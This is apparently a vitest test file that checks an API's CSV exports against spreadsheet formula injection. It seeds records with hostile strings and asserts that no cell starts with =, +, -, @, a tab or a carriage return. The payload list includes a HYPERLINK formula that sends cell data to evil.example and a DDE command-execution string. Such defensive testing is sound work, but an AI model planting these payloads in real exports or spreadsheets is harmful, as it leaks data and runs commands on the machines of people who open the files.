import { expect, it } from 'vitest';
import { submitDocument } from '../src/modules/intake/index.js';
import { nativeDocument, nativeFinding } from '../src/modules/intake/test-support/native.js';
import { uploadSbom, upsertAdvisory } from '../src/modules/inventory/index.js';
import { csvRecords } from '../src/modules/scoring/domain/test-support/csv-records.js';
import { describeEachDatabase } from '#test-support/databases.js';
import { useTestServer } from '#test-support/http.js';

/**
 * CSV injection: every CSV the API writes — found in the OpenAPI document (a `text/csv` answer or a path
 * ending in `csv`), so that a new one fails here until it is covered — is read back with hostile strings
 * in the records behind it (a finding's title and description, an organisation's and an asset's name
 * beginning with `=`, `+`, `-`, `@`, a tab or a carriage return). No cell may begin with one of them: a
 * spreadsheet would run it as a formula.
 */

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describeEachDatabase('CSV injection', (dialect) => {
  const get = useTestServer(dialect);

  it('no cell of any CSV the API writes begins with = + - @ tab or CR, whatever the records hold', async () => {
    const server = get();
    const admin = server.coordinatorAdmin;
    // A finding whose every text field is hostile, visible to the coordinator.
    const researcher = await server.org('researcher', { name: `${HOSTILE[0]} Research` });
    await submitDocument(server.as(researcher), {
      bytes: nativeDocument(
        HOSTILE.map((text, i) =>
          nativeFinding({ title: text, description: text, location: { path: `src/csv_${i}.js`, function: `f${i}` }, aliases: [] }),
        ),
      ),
      tlp: 'GREEN',
    });
    // An operator with hostile names, an asset matching an advisory: a remediation item per asset.
    const operator = await server.org('operator', { name: HOSTILE[3]!, sectors: ['energy'] });
    for (const [i, name] of HOSTILE.entries())
      await uploadSbom(server.as(operator), {
        asset: { name: `${name} ${i}`, criticality: 'moderate' },
        bytes: Buffer.from(
          JSON.stringify({
            bomFormat: 'CycloneDX',
            specVersion: '1.5',
            version: 1,
            components: [{ type: 'library', name: 'csv-injection', version: '1.0.0', purl: 'pkg:pypi/csv-injection@1.0.0' }],
          }),
        ),
      });
    const advisoryId = 'PYSEC-2097-0001';
    await upsertAdvisory(
      server.system,
      {
        id: advisoryId,
        modified: '2026-01-01T00:00:00Z',
        summary: HOSTILE[0],
        affected: [
          {
            package: { ecosystem: 'PyPI', name: 'csv-injection' },
            ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.0.1' }] }],
          },
        ],
      },
      { source: 'osv-import', tlp: 'GREEN' },
    );
    await server.runtime.jobs.drain();

    const openapi = (await server.app.inject({ method: 'GET', url: '/api/openapi.json' })).json<{
      paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
    }>();
    const csvRoutes = Object.entries(openapi.paths)
      .filter(([path, ops]) => /csv/.test(path) || 'text/csv' in (ops.get?.responses?.['200']?.content ?? {}))
      .map(([path]) => path)
      .sort();
    const urls: Record<string, string[]> = {
      '/api/v1/governance/exports/{format}': ['/api/v1/governance/exports/csv'],
      '/api/v1/governance/transparency.csv': ['/api/v1/governance/transparency.csv'],
      '/api/v1/remediation/advisories/{id}/csv': [`/api/v1/remediation/advisories/${advisoryId}/csv`],
      // CSAF 2.0 §7.1.13 fixes its shape: a document path (which begins with its year) and a date.
      '/.well-known/csaf/{directory}/changes.csv': ['/.well-known/csaf/white/changes.csv'],
    };
    expect(csvRoutes, 'every CSV route is read below: add the new one').toEqual(Object.keys(urls).sort());

    const bad: string[] = [];
    let hostileRows = 0;
    for (const url of Object.values(urls).flat()) {
      const response = await server.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${admin.token}` } });
      expect(response.statusCode, url).toBe(200);
      const rows = csvRecords(response.body);
      for (const row of rows) {
        if (row.some((cell) => HOSTILE.some((h) => cell.includes(h.trim().slice(1, 8))))) hostileRows++;
        for (const cell of row) if (FORMULA_START.test(cell)) bad.push(`${url}: ${JSON.stringify(cell)}`);
      }
    }
    expect(hostileRows, 'the hostile records reached the CSVs: otherwise this proves nothing').toBeGreaterThanOrEqual(HOSTILE.length * 2);
    expect(bad).toEqual([]);
  }, 120_000);
});
